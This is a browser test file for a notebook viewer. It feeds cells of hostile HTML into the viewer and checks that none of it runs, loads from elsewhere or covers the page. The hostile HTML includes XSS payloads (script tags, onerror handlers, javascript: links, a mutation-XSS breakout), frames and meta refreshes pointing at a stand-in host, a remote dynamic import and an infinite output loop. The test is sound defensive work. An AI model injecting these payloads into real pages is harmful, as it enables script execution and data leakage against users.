import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { codeCell, markdownCell, notebookOf } from "../fixture";
import { livePages } from "./live-pages";
import type { LivePage } from "./open-page";

/** A cell that shows HTML, as the kernel's display would. */
const shows = (html: string): string =>
  `globalThis.__tslab__.require.cache["/tslab/dist/jupyter.js"].exports.lastWriteDisplayData({ data: { "text/html": ${JSON.stringify(html)} } })`;

/** What would be seen if any of it ran, left the page or covered it. */
const cells: Readonly<Record<string, string>> = {
  "a script": shows('<p>文</p><script>document.title = "hit"</script>'),
  events: shows(
    '<p onclick="document.title=1">文</p><img src="x" onerror="document.title=\'hit\'"><svg onload="document.title=\'hit\'"></svg>',
  ),
  "links that run": shows(
    '<a href="javascript:document.title=\'hit\'">甲</a><a href="data:text/html,hit">乙</a>',
  ),
  "frames and forms": shows(
    '<iframe src="https://hit.example/"></iframe><form action="https://hit.example/"><input name="a"><button>发</button></form><object data="https://hit.example/"></object>',
  ),
  "a refresh and a base": shows(
    '<meta http-equiv="refresh" content="0;url=https://hit.example/"><base href="https://hit.example/"><link rel="stylesheet" href="https://hit.example/a.css"><p>文</p>',
  ),
  "a style that covers and calls": shows(
    '<style>body{background:url(https://hit.example/b)}</style><div style="position:fixed;inset:0;background:url(https://hit.example/c)" class="skip">罩</div>',
  ),
  "pictures from elsewhere": shows(
    '<img src="https://hit.example/d.png"><video src="https://hit.example/e"></video><picture><source srcset="https://hit.example/f"></picture><p>文</p>',
  ),
  "names of the page's own": shows('<div id="klab-packed" name="klabLiveCells">文</div>'),
  "markup that breaks out": shows(
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=document.title='hit'&gt;\">",
  ),
  "a figure with markup":
    'globalThis.__tslab__.require.cache["/tslab/dist/jupyter.js"].exports.lastWriteDisplayData({ data: { "application/vnd.plotly.v1+json": { data: [{ type: "scatter", x: [1], y: [1], name: "<img src=https://hit.example/g>" }], layout: { images: [{ source: "https://hit.example/h" }], title: { text: "<a href=\\"javascript:document.title=1\\">甲</a>" } } } } })',
  "a connection":
    'const ways = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts", "indexedDB", "caches", "postMessage", "BroadcastChannel", "Worker", "navigator"];\nways.filter((name) => (globalThis as any)[name] !== undefined).join()',
  "an import from the network": 'await import("https://hit.example/i.js")',
  "messages that are none": '"x".repeat(10)',
};

const notebook = notebookOf([
  markdownCell("# 恶意"),
  codeCell('import { kl } from "klab";\nkl([1], [1])'),
  ...Object.values(cells).map((source) => codeCell(source)),
  codeCell("for (;;) console.log('x'.repeat(10000))"),
]);
const { browser, open } = await livePages(notebook, {
  audience: "teacher",
  untried: "no hostile cell was run in a page",
});

describe.runIf(browser)("a cell that means harm", () => {
  // One page for all: what a cell did to it the next ones would show too.
  let opened: LivePage;
  beforeAll(async () => {
    opened = await open();
  }, 60_000);
  afterAll(() => opened.page.context().close());

  test.each(Object.keys(cells).map((name, i) => [name, i + 3] as const))(
    "%s: nothing runs, is asked for or leaves the page",
    async (name, position) => {
      const { page } = opened;
      const title = await page.title();
      const url = page.url();
      const cell = opened.cell(position);
      const [ran] = await opened.ran(() =>
        cell.getByRole("button", { name: "运行", exact: true }).click(),
      );
      await page.waitForTimeout(200);
      for (const link of await cell.locator(".outputs a").all()) await link.click().catch(() => {});
      expect([await page.title(), page.url(), opened.requests]).toEqual([title, url, []]);
      const kept = cell.locator(".outputs");
      expect(
        await kept
          .locator(
            "script:not([type]), style, iframe, form, object, link, meta, base, video, [onclick], [onerror], [id]:not(.plot *, .plot)",
          )
          .count(),
      ).toBe(0);
      expect(await kept.locator("a[href^=javascript], a[href^=data]").count()).toBe(0);
      const covered = await page.evaluate(() => {
        const over = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
        return over !== null && getComputedStyle(over).position === "fixed";
      });
      expect(covered).toBe(false);
      if (name === "a connection") expect(await kept.textContent()).not.toMatch(/[a-z]/i);
      if (name === "an import from the network") expect(ran.failure).toBeDefined();
    },
  );

  test("output without end is cut, and the page goes on", async () => {
    const position = Object.keys(cells).length + 3;
    const [ran] = await opened.ran(() =>
      opened.cell(position).getByRole("button", { name: "运行", exact: true }).click(),
    );
    expect(ran.failure?.message).toMatch(/已停止 \/ stopped/);
    await opened.ran(() =>
      opened.cell(2).getByRole("button", { name: "运行", exact: true }).click(),
    );
    expect(await opened.cell(2).locator(".outputs pre").textContent()).toBe("0");
  });
});
